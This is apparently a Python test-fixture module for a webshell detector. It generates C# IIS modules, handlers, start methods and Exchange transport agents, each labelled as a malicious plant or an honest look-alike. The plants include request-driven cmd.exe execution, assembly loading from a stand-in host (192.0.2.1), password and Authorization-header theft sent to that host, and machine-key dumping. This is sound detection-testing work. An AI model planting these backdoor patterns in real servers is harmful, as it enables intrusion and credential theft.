"""Compiled code: libraries with methods that the server calls, built here, and honest libraries of the same kinds."""

from __future__ import annotations

from collections.abc import Callable

from tests.builders.assemblies import dotnet_library
from tests.builders.compiled import USING
from tests.persistence.plants import BACK_END, EXCHANGE, FRONT_END, SITE, Change, added, honest, plant
from webshellhunt.model.verdict import Disposition

BIN, OWA_BIN = f"{SITE}/bin/a.dll", f"{FRONT_END}/owa/bin/a.dll"
AGENT = f"{EXCHANGE}/TransportRoles/agents/Ours/a.dll"
GAC = "C/Windows/Microsoft.NET/assembly/GAC_MSIL/a/v4.0_1.0.0.0__0123456789abcdef/a.dll"
_START = '[assembly: System.Web.PreApplicationStartMethod(typeof(P.Boot), "Go")]'
STUBS = """
namespace Microsoft.Exchange.Data.Transport.Email {
  public class EmailMessage { public string Subject { get { return ""; } } } }
namespace Microsoft.Exchange.Data.Transport {
  public class MailItem { public Email.EmailMessage Message { get { return null; } } }
  public delegate void Submitted(object s, Routing.QueuedMessageEventArgs e); }
namespace Microsoft.Exchange.Data.Transport.Routing {
  public class QueuedMessageEventArgs { public MailItem MailItem { get { return null; } } }
  public abstract class RoutingAgent { protected event Submitted OnSubmittedMessage; }
  public abstract class RoutingAgentFactory { public abstract RoutingAgent CreateAgent(object server); } }
namespace Owin { public interface IAppBuilder { }
  public static class Extensions {
    public static IAppBuilder Run(this IAppBuilder b, Func<Microsoft.Owin.IOwinContext, System.Threading.Tasks.Task> f)
    { return b; } } }
namespace Microsoft.Owin {
  public class OwinStartupAttribute : Attribute { public OwinStartupAttribute(Type t) { } }
  public interface IOwinRequest { IDictionary<string, string> Query { get; } }
  public interface IOwinContext { IOwinRequest Request { get; } } }
namespace System.ServiceModel.Channels {
  public class Message { public T GetBody<T>() { return default(T); } } }
namespace System.ServiceModel.Dispatcher {
  public interface IDispatchMessageInspector {
    object AfterReceiveRequest(ref Channels.Message m, object c, object i); } }
namespace System.ServiceModel.Activation { public abstract class ServiceHostFactory {
  protected abstract object CreateServiceHost(Type t, Uri[] a); } }
namespace System.Web.Http { public class ApiController { } }
namespace Mic·rosoft.JSc·ript { public class Eval {
  public static object JScr·iptEvaluate(object a, object b) { return a; } } }
"""


def library(path: str, source: str, *, with_stubs: bool = False) -> Change:
    """Return the change that adds a library of a source in C#."""
    name = path.rpartition("/")[2].removesuffix(".dll")
    return added(path, _made(source, name, with_stubs=with_stubs))


def _made(source: str, name: str, *, with_stubs: bool) -> Callable[[], bytes]:
    def made() -> bytes:
        stubs = dotnet_library(USING + STUBS, "Stubs") if with_stubs else None
        return dotnet_library(USING + source, name, stubs)

    return made


def boot(body: str, more: str = "") -> str:
    """Return a library whose start method has a body."""
    return f"{_START} namespace P {{ public class Boot {{ public static void Go() {{ {body} }} {more} }} }}"


def module(body: str, more: str = "") -> str:
    """Return a module whose ``Init`` has a body; ``a`` is the application."""
    init = f"public void Init(HttpApplication a) {{ {body} }} {more}"
    return f"namespace P {{ public class M : IHttpModule {{ public void Dispose() {{ }} {init} }} }}"


def seeing(body: str, more: str = "") -> str:
    """Return a module that sees each request ``r``."""
    return module(f"a.BeginRequest += (s, e) => {{ var r = ((HttpApplication)s).Request; {body} }};", more)


def handler(body: str, more: str = "") -> str:
    """Return a handler that answers a request ``r``."""
    return (
        "namespace P { public class H : IHttpHandler { public bool IsReusable { get { return true; } } "
        f"public void ProcessRequest(HttpContext c) {{ var r = c.Request; {body} }} {more} }} }}"
    )


def derived(base: str, members: str) -> str:
    """Return a class with a base type."""
    return f"namespace P {{ public class C : {base} {{ {members} }} }}"


def starts(what: str) -> str:
    return f"System.Diagno·stics.Proc·ess.St·art({what});"


def loads(what: str) -> str:
    return f"System.Reflec·tion.Assem·bly.Lo·ad({what});"


_FETCHED = 'new System.Net.WebCl·ient().Downl·oadData("http://192.0.2.1/x")'
_AES = "System.Security.Cryptography.Aes.Create().CreateDecryptor().TransformFinalBlock({what}, 0, 9)"
_STREAM = "byte[] b = new byte[99]; typeof(M).Assembly.GetManifestResourceStream(N).Read(b, 0, 99); " + loads(
    _AES.replace("{what}", "b")
)
_PAGES = (
    "namespace P { class V : System.Web.Hosting.VirtualPathProvider { "
    "public override bool FileExists(string p) { return true; } "
    "public override System.Web.Hosting.VirtualFile GetFile(string p) { return new F(p); } } "
    "class F : System.Web.Hosting.VirtualFile { public F(string p) : base(p) { } {more} "
    "public override Stream Open() { return {what}; } } }"
)
KEYS = (
    'var k = (System.Web.Configuration.MachineKeySection)System.Configuration.ConfigurationManager.GetSection("system'
    '.web/machine·Key");'
)
_AGENT = (
    "namespace P { public class F : Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory { "
    "public override Microsoft.Exchange.Data.Transport.Routing.RoutingAgent CreateAgent(object s) "
    "{ return new A(); } } "
    "public class A : Microsoft.Exchange.Data.Transport.Routing.RoutingAgent { "
    "public A() { OnSubmittedMessage += On; } "
    "void On(object s, Microsoft.Exchange.Data.Transport.Routing.QueuedMessageEventArgs e) { {body} } } }"
)
_OF_MAIL = "e.MailItem.Message.Subject"
_NONE = Disposition.MALICIOUS


def provider(what: str, more: str = "") -> str:
    """Return a virtual path provider whose files return a stream."""
    return _PAGES.replace("{what}", what).replace("{more}", more)


def agent(body: str) -> str:
    """Return a transport agent that sees each mail ``e``, with its factory."""
    return _AGENT.replace("{body}", body)


_STARTED = [
    plant(9, "start method starts cmd", "WSH5006", library(BIN, boot(starts('"cmd.exe", "/c x"')))),
    plant(9, "start method in owa starts a program", "WSH5006", library(OWA_BIN, boot(starts('"x.exe"')))),
    plant(9, "start method in a sub-site", "WSH5006", library(f"{SITE}/app/bin/a.dll", boot(starts('"x.exe"')))),
    plant(
        9,
        "start method with a program in pieces",
        "WSH5006",
        library(
            BIN,
            boot(
                "var i = new System.Diagno·stics.Proc·essStartInfo(); i.File·Name = N; i.Argu·ments = A; "
                + starts("i"),
                'const string A = "/c x"; static string N = "cm" + Tail(); static string Tail() { return "d.exe"; }',
            ),
        ),
    ),
    plant(
        9,
        "start method with a program in base64",
        "WSH5006",
        library(BIN, boot(starts('Encoding.UTF8.GetString(Convert.FromBase64String("Y21kLmV4ZQ=="))'))),
    ),
    plant(
        9,
        "start method in a thread",
        "WSH5006",
        library(BIN, boot("new System.Threading.Thread(() => { " + starts('"x.exe"') + " }).Start();")),
    ),
    plant(
        9,
        "start method with an asynchronous method",
        "WSH5006",
        library(
            BIN,
            boot(
                "Later();",
                "static async void Later() { await System.Threading.Tasks.Task.Delay(9); " + starts('"x.exe"') + " }",
            ),
        ),
    ),
    plant(6, "module starts a program in Init", "WSH5006", library(BIN, module(starts('"x.exe"')))),
    plant(
        6,
        "module starts a program by Windows",
        "WSH5006",
        library(
            BIN,
            module(
                'WinEx·ec("x.exe", 0);',
                '[System.Runtime.InteropServices.DllImport("kernel32")] static extern int WinEx·ec(string c, int s);',
            ),
        ),
    ),
    plant(
        6,
        "static constructor of a handler",
        "WSH5006",
        library(BIN, handler("", "static H() { " + starts('"x"') + " }")),
    ),
    plant(
        25,
        "provider starts a program",
        "WSH5006",
        library(
            BIN,
            derived(
                "System.Configuration.Provider.ProviderBase",
                "public override void Initialize(string n, System.Collections.Specialized.NameValueCollection c) { "
                + starts('"x.exe"')
                + " }",
            ),
        ),
    ),
    plant(
        21,
        "application domain manager starts a program",
        "WSH5006",
        library(
            BIN,
            derived(
                "AppDomainManager",
                "public override void InitializeNewDomain(AppDomainSetup i) { " + starts('"x"') + " }",
            ),
        ),
    ),
    plant(
        25,
        "factory of a service starts a program",
        "WSH5006",
        library(
            BIN,
            derived(
                "System.ServiceModel.Activation.ServiceHostFactory",
                "protected override object CreateServiceHost(Type t, Uri[] a) { "
                + starts('"x.exe"')
                + " return null; }",
            ),
            with_stubs=True,
        ),
    ),
    plant(
        25,
        "OWIN start-up starts a program",
        "WSH5006",
        library(
            BIN,
            "[assembly: Microsoft.Owin.OwinStartup(typeof(P.Up))] namespace P { public class Up { "
            "public void Configuration(Owin.IAppBuilder b) { " + starts('"x.exe"') + " } } }",
            with_stubs=True,
        ),
    ),
    honest(9, "start method registers a module", library(BIN, boot("HttpApplication.RegisterModule(typeof(Boot));"))),
    honest(
        6, "page that starts a fixed program", library(BIN, handler(starts('"C:\\\\Program Files\\\\Tool\\\\t.exe"')))
    ),
    honest(
        6,
        "module that removes a header",
        library(BIN, seeing('((HttpApplication)s).Response.Headers.Remove("Server");')),
    ),
]
_LOADED = [
    plant(
        9,
        "start method loads a file of Temp",
        "WSH5007",
        library(BIN, boot('System.Reflec·tion.Assem·bly.Lo·adFrom(@"C:\\Windows\\Temp\\a.dll");')),
    ),
    plant(
        9,
        "start method loads bytes of a file of ProgramData",
        "WSH5007",
        library(BIN, boot(loads('File.ReadAllBytes(Path.Combine(@"C:\\Users\\Public", "a.bin"))'))),
    ),
    plant(9, "start method loads code of the network", "WSH5007", library(OWA_BIN, boot(loads(_FETCHED)))),
    plant(6, "module loads a constant", "WSH5007", library(BIN, module(loads('Convert.FromBase64String("TVqQAAMA")')))),
    plant(
        6,
        "module loads an encrypted resource",
        "WSH5007",
        library(BIN, module(_STREAM, 'const string N = "r";')),
    ),
    honest(
        6,
        "library loads embedded ones when they are missed",
        library(
            BIN,
            boot(
                "AppDomain.CurrentDomain.AssemblyResolve += (s, e) => { byte[] b = new byte[9]; "
                "typeof(Boot).Assembly.GetManifestResourceStream(e.Name).Read(b, 0, 9); return " + loads("b") + " };"
            ),
        ),
    ),
    honest(
        9,
        "loader of plug-ins",
        library(
            BIN,
            boot(
                'foreach (var f in Directory.GetFiles(HttpRuntime.BinDirectory, "*.dll")) '
                "{ System.Reflec·tion.Assem·bly.Lo·adFrom(f); }"
            ),
        ),
    ),
]
_REQUESTED = [
    plant(
        6,
        "module runs a header",
        "WSH5001",
        library(BIN, seeing(starts('"cmd.exe", "/c " + r.Headers["X"]'))),
        least=_NONE,
    ),
    plant(
        6,
        "module in owa runs a cookie",
        "WSH5001",
        library(OWA_BIN, seeing(starts('r.Cookies["X"].Value'))),
        least=_NONE,
    ),
    plant(
        6,
        "handler loads the body",
        "WSH5001",
        library(BIN, handler("var b = new byte[9]; r.InputStream.Read(b, 0, 9); " + loads("b"))),
        least=_NONE,
    ),
    plant(
        6,
        "handler loads a field through fields and methods",
        "WSH5001",
        library(
            BIN,
            handler(
                'k = r.Form["z"]; Go();',
                "string k; void Go() { Run(Convert.FromBase64String(k)); } void Run(byte[] b) { "
                + loads("Turn(b)")
                + " } "
                "byte[] Turn(byte[] b) { for (int i = 0; i < b.Length; i++) { b[i] ^= 7; } return b; }",
            ),
        ),
        least=_NONE,
    ),
    plant(
        6,
        "asynchronous handler runs a field",
        "WSH5001",
        library(
            BIN,
            "using System.Threading.Tasks; "
            + derived(
                "HttpTaskAsyncHandler",
                'public override async Task ProcessRequestAsync(HttpContext c) { var q = c.Request["q"]; '
                "await Task.Delay(1); await Task.Run(() => { " + starts('"cmd.exe", q') + " }); }",
            ),
        ),
        least=_NONE,
    ),
    plant(
        6,
        "handler evaluates a field",
        "WSH5001",
        library(BIN, handler('Mic·rosoft.JSc·ript.Eval.JScr·iptEvaluate(r["k"], "uns·afe");'), with_stubs=True),
        least=_NONE,
    ),
    plant(
        6,
        "handler compiles a field",
        "WSH5001",
        library(
            BIN,
            handler(
                "new Mic·rosoft.CSh·arp.CSharpCodePro·vider().CompileAssem·blyFromSource(new System.CodeDom.Compiler"
                '.CompilerParameters(), r["k"]);'
            ),
        ),
        least=_NONE,
    ),
    plant(
        6,
        "handler deserialises the body",
        "WSH5001",
        library(BIN, handler("new System.Web.UI.Los·Formatter().Deser·ialize(r.InputStream);")),
    ),
    plant(
        25,
        "inspector of a service runs a message",
        "WSH5001",
        library(
            BIN,
            derived(
                "System.ServiceModel.Dispatcher.IDispatchMessageInspector",
                "public object AfterReceiveRequest(ref System.ServiceModel.Channels.Message m, object c, object i) { "
                + starts('"cmd.exe", m.GetBody<string>()')
                + " return null; }",
            ),
            with_stubs=True,
        ),
        least=_NONE,
    ),
    plant(
        25,
        "OWIN start-up adds a handler that runs a field",
        "WSH5001",
        library(
            BIN,
            "using Owin; [assembly: Microsoft.Owin.OwinStartup(typeof(P.Up))] namespace P { public class Up { "
            'public void Configuration(IAppBuilder b) { b.Run(x => { var q = x.Request.Query["q"]; '
            + starts("q")
            + " return null; }); } } }",
            with_stubs=True,
        ),
        least=_NONE,
    ),
    plant(7, "module in the assembly cache", "WSH5001", library(GAC, seeing(starts('r["q"]'))), least=_NONE),
    plant(
        10,
        "handler calls what the request names",
        "WSH5013",
        library(
            BIN,
            handler(
                'Type.GetType(r["t"]).InvokeMember(r["m"], (System.Reflection.BindingFlags)256, null, null, '
                'new object[] { r["a"] });'
            ),
        ),
    ),
    plant(
        40,
        "handler connects for the request",
        "WSH5014",
        library(BIN, handler('new System.Net.Sockets.TcpClient(r.Headers["X-T"], 443);')),
    ),
    honest(6, "handler loads a library by name", library(BIN, handler(loads('r["a"]')))),
    honest(
        6,
        "handler that asks a database",
        library(
            BIN,
            handler(
                'using (var q = new System.Data.SqlClient.SqlCommand()) { q.CommandText = "select 1"; '
                'q.Parameters.AddWithValue("@a", r["a"]); c.Response.Write(q.ExecuteScalar()); }'
            ),
        ),
    ),
    honest(
        10,
        "handler that picks one of its own methods",
        library(BIN, handler('typeof(H).GetMethod(r["m"]).Invoke(this, null);')),
    ),
]
_KEPT = [
    plant(
        7,
        "module writes passwords",
        "WSH5008",
        library(BIN, seeing('File.AppendAllText(@"C:\\x.txt", r.Form["username"] + ":" + r.Form["password"]);')),
    ),
    plant(
        7,
        "module in the assembly cache keeps passwords",
        "WSH5008",
        library(
            GAC,
            module(
                "a.PreSendRequestContent += On;",
                "static HashSet<string> all = new HashSet<string>(); void On(object s, EventArgs e) { "
                'var f = ((HttpApplication)s).Context.Request.Form; all.Add(f["username"] + f["password"]); }',
            ),
        ),
    ),
    plant(
        7,
        "module sends passwords",
        "WSH5008",
        library(
            OWA_BIN,
            seeing('new System.Net.WebCl·ient().Upl·oadString("http://192.0.2.1/", r.Headers["Authorization"]);'),
        ),
    ),
    plant(
        25,
        "membership provider writes passwords",
        "WSH5008",
        library(
            BIN,
            "namespace P { public abstract class C : System.Web.Security.MembershipProvider { "
            'public override bool ValidateUser(string u, string p) { using (var w = new Stream·Writer(@"C:\\x")) '
            "{ w.WriteLine(u + p); } return true; } } }",
        ),
    ),
    honest(
        7,
        "membership provider asks a database and writes the name",
        library(
            BIN,
            "namespace P { public abstract class C : System.Web.Security.MembershipProvider { "
            "public override bool ValidateUser(string u, string p) { var q = new System.Data.SqlClient.SqlCommand(); "
            'q.Parameters.AddWithValue("@p", p); File.AppendAllText("log", u); return q.ExecuteScalar() != null; } } }',
        ),
    ),
    honest(
        7,
        "page that signs in elsewhere",
        library(
            BIN,
            derived(
                "System.Web.UI.Page",
                'void Page_Load(object s, EventArgs e) { new System.Net.WebCl·ient().Upl·oadString("https://login", '
                'Request.Form["password"]); }',
            ),
        ),
    ),
]
_SERVED = [
    plant(
        8,
        "provider of a page in base64",
        "WSH5009",
        library(BIN, provider('new MemoryStream(Convert.FromBase64String("PCVAIFBhZ2UgJT4="))')),
    ),
    plant(
        8,
        "provider of a page of the request",
        "WSH5009",
        library(BIN, provider('new MemoryStream(Encoding.UTF8.GetBytes(HttpContext.Current.Request.Headers["X"]))')),
    ),
    plant(
        8,
        "provider of a constant page",
        "WSH5009",
        library(
            OWA_BIN,
            provider("new MemoryStream(Encoding.UTF8.GetBytes(T))", 'const string T = "<·%@ Page %·>";'),
        ),
    ),
    honest(
        8,
        "provider of embedded resources",
        library(BIN, provider('typeof(F).Assembly.GetManifestResourceStream("a")')),
    ),
]
_OTHERS = [
    plant(
        10,
        "module with a listener",
        "WSH5010",
        library(
            BIN,
            module('var l = new System.Net.HttpLis·tener(); l.Prefixes.Add("https://*:443/ews/x/"); l.Start();'),
        ),
    ),
    plant(
        10,
        "start method with a listener in a thread",
        "WSH5010",
        library(
            OWA_BIN,
            boot(
                "System.Threading.ThreadPool.QueueUserWorkItem(Go2);",
                "static void Go2(object o) { "
                'var l = new System.Net.HttpLis·tener(); l.Prefixes.Add("http://*:80/x/"); }',
            ),
        ),
    ),
    plant(
        10,
        "handler writes the keys",
        "WSH5011",
        library(BIN, handler(KEYS + " c.Response.Write(k.Validation·Key + k.Decryption·Key);")),
        least=_NONE,
    ),
    plant(
        10,
        "start method keeps the keys",
        "WSH5011",
        library(BIN, boot(KEYS + ' File.WriteAllText("k", k.Validation·Key);')),
    ),
    plant(
        9,
        "start method writes a page",
        "WSH5012",
        library(
            BIN,
            boot('File.WriteAllText(HttpRuntime.AppDomainAppPath + "x.aspx", "<·%@ Page %·>");'),
        ),
    ),
    plant(
        9,
        "handler writes a page of the request",
        "WSH5012",
        library(BIN, handler('File.WriteAllBytes(r["p"], Convert.FromBase64String(r["c"]));')),
    ),
    plant(
        9,
        "start method calls an address",
        "WSH5014",
        library(BIN, boot('new System.Net.Sockets.TcpClient("192.0.2.1", 443);')),
    ),
    honest(
        10,
        "handler that compares keys",
        library(BIN, handler(KEYS + ' if (k.Validation·Key == "x") { c.Response.Write("no"); }')),
    ),
    honest(
        9,
        "handler that takes an upload",
        library(BIN, handler('r.Files[0].SaveAs(Path.Combine(@"D:\\Up", Path.GetFileName(r.Files[0].FileName)));')),
    ),
    honest(9, "start method calls a cache", library(BIN, boot('new System.Net.Sockets.TcpClient("127.0.0.1", 6379);'))),
]
_OF_EXCHANGE = [
    plant(
        46,
        "agent runs a mail",
        "WSH5015",
        library(AGENT, agent(starts(_OF_MAIL)), with_stubs=True),
        least=_NONE,
    ),
    plant(
        46,
        "agent keeps mails in an odd folder",
        "WSH5015",
        library(
            AGENT,
            agent(f'File.AppendAllText(@"C:\\Windows\\Temp\\m.txt", {_OF_MAIL});'),
            with_stubs=True,
        ),
    ),
    plant(
        46,
        "agent starts a program",
        "WSH5006",
        library(AGENT, agent(starts('"x"')), with_stubs=True),
    ),
    plant(
        46,
        "unsigned agent in Exchange's folder",
        "WSH5016",
        library(AGENT, agent(""), with_stubs=True),
    ),
    plant(9, "start method in owa, empty", "WSH5016", library(OWA_BIN, boot(""))),
    plant(9, "start method in ecp of the back end, empty", "WSH5016", library(f"{BACK_END}/ecp/bin/a.dll", boot(""))),
    plant(6, "module in owa, empty", "WSH5016", library(OWA_BIN, module(""))),
    plant(
        46,
        "library in Exchange's own folder",
        "WSH5016",
        library(f"{EXCHANGE}/Bin/a.dll", module("")),
    ),
    honest(
        46,
        "agent in its own folder",
        library("C/Program Files/Vendor/Agent/a.dll", agent(""), with_stubs=True),
    ),
]
PLANTS = [*_STARTED, *_LOADED, *_REQUESTED, *_KEPT, *_SERVED, *_OTHERS, *_OF_EXCHANGE]

_ACTION = "namespace P { public class S : System.Web.Http.ApiController { "
_IMPORT = '[System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr '
_TOOL = '"C:/Program Files/x/x.exe", "-n " + s'
_THREAD = _IMPORT + "Create·Thread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);"
_RUN = "var m = IntPtr.Zero; Create·Thread(m, 0, m, m, 0, m);"
_VALIDATED = "public override bool ValidateUser(string u, string p) { {body} return base.ValidateUser(u, p); }"
_FILE = 'System.IO.File.Append·AllText("C:\\\\log.txt", {what});'
_LISTEN = (
    "namespace P { public class L { public static void Go() { var l = new System.Net.HttpListener(); "
    'l.Prefixes.Add("{url}"); l.Start(); } } }'
)
PLANTS += [
    plant(6, "action of a controller starts what it is given", "WSH5001",
          library(BIN, _ACTION + f'public void Ping(string h) {{ {starts("h")} }} }} }}', with_stubs=True)),
    plant(6, "text in more than four pieces is run", "WSH5001",
          library(BIN, handler(starts('"x.exe", r["a"] + " " + r["b"] + " " + 5 + "c"')))),
    plant(10, "keys in more than four pieces", "WSH5011",
          library(BIN, handler(KEYS + 'c.Response.Write(k.ValidationKey + "|" + k.Validation + "|" + k.DecryptionKey);'))),
    plant(10, "module starts a thread of Windows in memory", "WSH5007", library(BIN, seeing(_RUN, _THREAD))),
    plant(25, "provider above that of SQL keeps passwords", "WSH5008",
          library(BIN, derived("System.Web.Security.SqlMembershipProvider",
                               _VALIDATED.replace("{body}", _FILE.replace("{what}", "u + p"))))),
    plant(40, "listener among the addresses of Exchange", "WSH5010",
          library(BIN, _LISTEN.replace("{url}", "https://*:443/ews/health/"))),
    honest(6, "helper of an action starts a program", library(
        BIN, _ACTION + f"public void Ping(int h) {{ Go(7); }} void Go(int s) {{ {starts(_TOOL)} }} }} }}", with_stubs=True)),
    honest(25, "provider logs who signs in", library(
        BIN, derived("System.Web.Security.SqlMembershipProvider",
                     _VALIDATED.replace("{body}", _FILE.replace("{what}", "u"))))),
    honest(40, "listener with an address of its own",
           library(BIN, _LISTEN.replace("{url}", "http://localhost:8090/api/"))),
]  # fmt: skip
